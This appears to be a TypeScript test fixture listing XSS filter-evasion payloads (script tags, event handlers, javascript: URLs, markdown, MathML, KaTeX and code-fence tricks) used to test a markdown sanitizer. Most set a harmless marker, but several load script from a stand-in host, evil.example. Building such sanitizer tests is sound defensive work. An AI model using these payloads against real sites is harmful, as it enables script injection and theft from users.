/** Payloads from the OWASP XSS filter evasion cheat sheet, plus markdown's own ways in. */
export const xssPayloads = [
  '<script>window.__pwned=1</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<IMG SRC="javascript:window.__pwned=1;">',
  '<IMG SRC=javascript:window.__pwned=1>',
  '<IMG SRC=JaVaScRiPt:window.__pwned=1>',
  '<IMG SRC=`javascript:window.__pwned=1`>',
  '<a onmouseover="window.__pwned=1">xxs link</a>',
  '<IMG """><SCRIPT>window.__pwned=1</SCRIPT>">',
  '<IMG SRC=# onmouseover="window.__pwned=1">',
  '<IMG SRC=/ onerror="window.__pwned=1"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058window.__pwned=1">',
  '<IMG SRC="jav&#x09;ascript:window.__pwned=1;">',
  '<IMG SRC=" &#14;  javascript:window.__pwned=1;">',
  '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=window.__pwned=1>',
  '<<SCRIPT>window.__pwned=1;//<</SCRIPT>',
  '<SCRIPT SRC=//evil.example/.j>',
  '<IMG SRC="`<javascript:window.__pwned=1>`"',
  '</TITLE><SCRIPT>window.__pwned=1;</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:window.__pwned=1;">',
  '<BODY BACKGROUND="javascript:window.__pwned=1">',
  '<svg/onload=window.__pwned=1>',
  '<svg><script>window.__pwned=1</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>',
  '<iframe src="javascript:window.__pwned=1"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<object data="javascript:window.__pwned=1"></object>',
  '<embed src="javascript:window.__pwned=1">',
  '<form action="javascript:window.__pwned=1"><button>go</button></form>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:window.__pwned=1;">',
  '<LINK REL="stylesheet" HREF="javascript:window.__pwned=1;">',
  '<STYLE>li {list-style-image: url("javascript:window.__pwned=1");}</STYLE><UL><LI>XSS</br>',
  '<DIV STYLE="background-image: url(javascript:window.__pwned=1)">',
  '<details open ontoggle="window.__pwned=1">',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '[markdown link](javascript:window.__pwned=1)',
  '[encoded](jav&#x61;script:window.__pwned=1)',
  '[spaced]( javascript:window.__pwned=1 )',
  '![image](javascript:window.__pwned=1)',
  '![tracker](https://evil.example/pixel.png)',
  '<javascript:window.__pwned=1>',
  '[ref][x]\n\n[x]: javascript:window.__pwned=1',
  '<a href="https://example.org" onclick="window.__pwned=1">fine link, bad handler</a>',
  // Raw MathML, which markdown shows as text and the sanitizer would strip anyway.
  '<math><maction actiontype="statusline#x" onclick="window.__pwned=1"><mi>x</mi></maction></math>',
  '<math><semantics><mi>x</mi><annotation-xml encoding="text/html"><script>window.__pwned=1</script></annotation-xml></semantics></math>',
  '<math><mi href="javascript:window.__pwned=1">x</mi></math>',
  '<math><mi xlink:href="javascript:window.__pwned=1">x</mi></math>',
  // Tables and task lists.
  '| a | b |\n|---|---|\n| <img src=x onerror=window.__pwned=1> | [x](javascript:window.__pwned=1) |',
  '| $\\href{javascript:window.__pwned=1}{x}$ | <script>window.__pwned=1</script> |',
  '- [x] <img src=x onerror=window.__pwned=1>\n- [ ] [go](javascript:window.__pwned=1)',
  '- [ ] <input type="text" autofocus onfocus="window.__pwned=1">',
];

// TeX that could reach out of KaTeX if it trusted its input (`trust: false` keeps these inert).
export const mathPayloads = [
  '$\\href{javascript:window.__pwned=1}{x}$',
  '$$\\url{javascript:window.__pwned=1}$$',
  '$$\n\\href{javascript:window.__pwned=1}{click}\n$$',
  '$\\htmlClass{x}{y}$',
  '$\\htmlId{x}{y}$',
  '$\\htmlStyle{background:url(javascript:window.__pwned=1)}{y}$',
  '$\\htmlData{onload=window.__pwned=1}{y}$',
  '$\\includegraphics{javascript:window.__pwned=1}$',
  '$\\text{<img src=x onerror=window.__pwned=1>}$',
  '$x<script>window.__pwned=1</script>$',
  '$\\fcolorbox{red}{blue}{x}$',
  '$\\def\\a{\\a}\\a$',
];

// Every language the highlighter knows, an alias, an unknown one and none: each way through it.
const languages = [
  ...['bash', 'shell', 'c', 'cpp', 'csharp', 'css', 'diff', 'go', 'java', 'javascript', 'json'],
  ...['kotlin', 'markdown', 'php', 'python', 'ruby', 'rust', 'sql', 'swift', 'typescript', 'xml'],
  ...['yaml', 'html', 'ts', 'no-such-language', ''],
];
export const codePayloads = languages.map(
  (language) =>
    `\`\`\`${language}\n<img src=x onerror="window.__pwned=1"></code><script>window.__pwned=1</script>\n$x$ ]]> --> \`\`\`\n\`\`\``,
);
